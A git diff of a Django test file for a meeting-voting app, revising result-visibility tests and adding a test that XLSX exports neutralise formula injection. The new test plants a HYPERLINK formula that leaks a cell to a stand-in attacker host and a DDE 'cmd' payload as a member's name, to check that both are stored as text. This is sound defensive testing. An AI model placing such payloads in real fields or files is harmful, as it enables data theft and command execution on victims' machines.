@@ -1,9 +1,11 @@
-from django.db import models
+import io
+
 from django.urls import reverse
 
 from wagtail.models import ModelLogEntry
 
 import pytest
+from openpyxl import load_workbook
 
 from cms.meetings import services
 from cms.meetings.choices import MajorityRule
@@ -158,48 +160,31 @@ def test_option_of_another_motion_is_refused(voting, open_meeting, secretary, me
         services.cast_vote(members[1].user, voting.pk, other.options.first().pk)
 
 
-def test_secret_ballot_records_that_and_what_but_never_links_them(open_meeting, secretary, members):
-    present(open_meeting, secretary, [secretary, *members[:4]])
-    motion = make_motion(open_meeting, secretary, ballot_type="secret")
-    services.cast_vote(members[1].user, motion.pk, option(motion, "Tán thành").pk)
-    services.cast_vote(members[2].user, motion.pk, option(motion, "Không tán thành").pk)
-    # that they voted
-    assert set(VoteReceipt.objects.filter(motion=motion).values_list("member", flat=True)) == {
-        members[1].pk,
-        members[2].pk,
-    }
-    # what was chosen, with no voter, no time, no sequential key
-    ballots = list(Ballot.objects.filter(motion=motion))
-    assert sorted(b.option.label for b in ballots) == ["Không tán thành", "Tán thành"]
-    assert all(b.member_id is None for b in ballots)
-    field_types = {type(f) for f in Ballot._meta.concrete_fields}
-    assert not field_types & {
-        models.DateTimeField,
-        models.DateField,
-        models.AutoField,
-        models.BigAutoField,
-    }
-    assert Ballot._meta.pk.get_internal_type() == "UUIDField"
-    # the audit log says who voted, never the choice
-    for entry in ModelLogEntry.objects.filter(action="meetings.vote", object_id=str(motion.pk)):
-        assert "option" not in entry.data
-        assert "Tán thành" not in str(entry.data)
-    services.close_motion(secretary.user, motion)
-    assert Ballot.objects.filter(motion=motion, sealed=True).count() == 2
-
-
 def test_results_are_hidden_until_close_even_in_the_live_json(
     client, voting, secretary, members, django_capture_on_commit_callbacks
 ):
+    """docs/meetings.md: while a vote is open only who runs the meeting sees the running
+    count; members see that it is open; everyone sees the result once it closes."""
     services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)
+    url = reverse("meetings:live", args=[voting.meeting_id])
+    detail = reverse("meetings:detail", args=[voting.meeting_id])
     login(client, members[2])
-    data = client.get(reverse("meetings:live", args=[voting.meeting_id])).json()
-    (entry,) = data["motions"]
+    member_etag = client.get(url)["ETag"]
+    (entry,) = client.get(url).json()["motions"]
+    assert entry == {"id": voting.pk, "status": "open"}
+    assert "Đã nhận" not in client.get(detail).content.decode()
+    login(client, secretary)
+    secretary_view = client.get(url, HTTP_IF_NONE_MATCH=member_etag)
+    assert secretary_view.status_code == 200  # not the member's copy
+    (entry,) = secretary_view.json()["motions"]
     assert entry["votes"] == 1 and "result" not in entry
+    assert "Đã nhận <strong" in client.get(detail).content.decode()
     with django_capture_on_commit_callbacks(execute=True):
         services.close_motion(secretary.user, voting)
-    data = client.get(reverse("meetings:live", args=[voting.meeting_id])).json()
+    login(client, members[2])
+    data = client.get(url).json()
     assert data["motions"][0]["result"]["options"][0] == {"label": "Tán thành", "count": 1}
+    assert data["motions"][0]["votes"] == 1
 
 
 @pytest.mark.parametrize(
@@ -247,10 +232,6 @@ def test_only_the_secretary_or_chair_opens_and_closes_motions(client, voting, me
 
 
 def test_results_export_to_xlsx(client, voting, secretary, members):
-    import io
-
-    from openpyxl import load_workbook
-
     services.cast_vote(members[1].user, voting.pk, option(voting, "Tán thành").pk)
     services.close_motion(secretary.user, voting)
     login(client, members[2])
@@ -268,3 +249,35 @@ def test_results_export_to_xlsx(client, voting, secretary, members):
     ]
     detail = [list(r) for r in book["Danh sách đã biểu quyết"].iter_rows(values_only=True)]
     assert ["Thông qua nghị quyết tháng", members[1].full_name, "Tán thành"] in detail
+
+
+def test_results_xlsx_stores_questions_options_and_names_as_text(
+    client, open_meeting, secretary, members
+):
+    """Issue 15, item 3: nothing a person typed becomes a formula in the sheet."""
+    question = '=HYPERLINK("http://ke-gian.example/?c="&C2,"Bấm để xác nhận")'
+    labels = ["+Tán thành", "-Không tán thành", "@Ý kiến khác"]
+    members[1].full_name = "=cmd|' /C calc'!A0"
+    members[1].save()
+    present(open_meeting, secretary, [secretary, *members[:4]])
+    motion = services.open_motion(
+        secretary.user,
+        services.create_motion(
+            secretary.user,
+            open_meeting,
+            question=question,
+            options=labels,
+            ballot_type="open",
+            majority_rule=MajorityRule.PRESENT_MAJORITY,
+        ),
+    )
+    services.cast_vote(members[1].user, motion.pk, option(motion, labels[0]).pk)
+    services.close_motion(secretary.user, motion)
+    login(client, members[2])
+    response = client.get(reverse("meetings:motions_xlsx", args=[open_meeting.pk]))
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    typed = [c for c in cells if c.value in {question, *labels, members[1].full_name}]
+    assert {c.value for c in typed} == {question, *labels, members[1].full_name}
+    assert all(c.data_type == "s" and c.quotePrefix for c in typed)
